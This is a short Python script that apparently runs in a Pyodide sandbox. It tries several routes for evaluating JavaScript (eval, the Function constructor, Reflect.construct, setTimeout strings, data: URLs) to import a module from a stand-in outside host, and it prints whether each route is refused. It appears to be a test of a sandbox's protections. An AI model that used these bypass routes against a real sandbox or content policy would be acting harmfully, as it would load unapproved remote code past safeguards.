# Turns text into JavaScript in several ways, to import modules from another host.
import js
from pyodide.code import run_js

IMPORT = "import('http://elsewhere.test/module.js')"
for attempt in (
    lambda: run_js(IMPORT),
    lambda: js.eval(IMPORT),
    lambda: js.Function.new(IMPORT)(),
    lambda: js.Reflect.construct(js.Function, [IMPORT])(),
    lambda: js.Object.getPrototypeOf(js.setTimeout).constructor(IMPORT)(),
    lambda: run_js("import('data:text/javascript,1')"),
):
    try:
        attempt()
        print("GOT THROUGH")
    except Exception as error:
        print("refused:", type(error).__name__)
# These calls succeed. The browser refuses to run the texts when the timers fire, and requests
# nothing.
js.setTimeout(IMPORT, 0)
js.setInterval(IMPORT, 1)
